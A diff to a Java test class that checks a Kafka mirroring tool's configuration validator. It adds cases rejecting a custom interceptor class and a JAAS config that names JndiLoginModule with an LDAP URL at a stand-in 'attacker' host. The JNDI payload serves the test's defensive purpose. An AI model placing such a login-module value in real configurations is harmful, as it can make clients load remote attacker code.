@@ -62,6 +62,21 @@ class ValidateFailFastTest {
             "key 'B.sasl.jaas.config' refers to '${file:/nonexistent:key}', but /nonexistent"
                 + " cannot be read (no such file); expected a readable properties file"),
         Arguments.of(
+            "A.consumer.interceptor.classes = com.example.Spy",
+            "key 'A.consumer.interceptor.classes' names class 'com.example.Spy', which kmirror does"
+                + " not load from a topology; expected no such key, or"
+                + " 'kmirror.allow.custom.classes = true' to load classes of your own"),
+        Arguments.of(
+            "B.sasl.jaas.config = com.sun.security.auth.module.JndiLoginModule required"
+                + " user.provider.url=\"ldap://attacker/\";",
+            "key 'B.sasl.jaas.config' names login module"
+                + " 'com.sun.security.auth.module.JndiLoginModule', which kmirror does not load from"
+                + " a topology; expected one of com.sun.security.auth.module.Krb5LoginModule,"
+                + " org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule,"
+                + " org.apache.kafka.common.security.plain.PlainLoginModule,"
+                + " org.apache.kafka.common.security.scram.ScramLoginModule, or"
+                + " 'kmirror.allow.custom.classes = true' to load classes of your own"),
+        Arguments.of(
             "clusters = A, B, a\na.bootstrap.servers = c:9092",
             "key 'clusters' value 'A, B, a' names 'A' and 'a', which differ only in case; expected"
                 + " aliases that differ in more than case (remote topic names and metrics would be"
